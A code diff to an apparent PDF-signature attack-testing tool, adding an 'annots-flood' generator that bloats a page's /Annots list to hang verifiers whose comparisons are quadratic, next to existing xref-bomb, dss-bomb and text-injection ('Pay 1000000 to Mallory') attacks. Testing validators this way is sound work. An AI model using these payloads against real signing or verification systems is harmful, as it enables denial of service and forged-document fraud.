@@ -563,6 +563,19 @@ def attack_dss_bomb(pdf, a):
     return append_update(pdf, objs)
 
 
+def attack_annots_flood(pdf, a):
+    """Two updates that replace the first page's /Annots with --count direct entries each
+    (the second list a reordering of the first): a comparison of lists that is quadratic takes
+    minutes, one that is not takes milliseconds."""
+    page = pdf.pages()[0]
+    body = pdf.obj(page)
+    for first in (True, False):
+        items = b' '.join([b'1'] * a.count) if first else b' '.join([b'2'] * a.count + [b'1'])
+        body = dict_set(body, b'Annots', b'[' + items + b']')
+        pdf = append_update(pdf, {page: body})
+    return pdf
+
+
 def attack_sign(pdf, a):
     """An independent signer: adds a signature field + widget and a signature dictionary with
     a zero /Contents placeholder in an incremental update, then signs its ByteRange with
@@ -622,6 +635,7 @@ ATTACKS = {
     'orphan': (attack_orphan, [('--text', dict(default='Pay 1000000 to Mallory')), ('--cert', dict(required=True))]),
     'xref-bomb': (attack_xref_bomb, [('--updates', dict(type=int, default=1)),
                                      ('--entries', dict(type=int, default=10_000_000))]),
+    'annots-flood': (attack_annots_flood, [('--count', dict(type=int, default=200_000))]),
     'dss-bomb': (attack_dss_bomb, [('--mb', dict(type=int, default=200)), ('--refs', dict(type=int, default=30))]),
     'sign': (attack_sign, [('--key', dict(required=True)), ('--cert', dict(required=True)), ('--certfile',),
                            ('--cades', dict(action='store_true')), ('--dr', dict(action='store_true')),
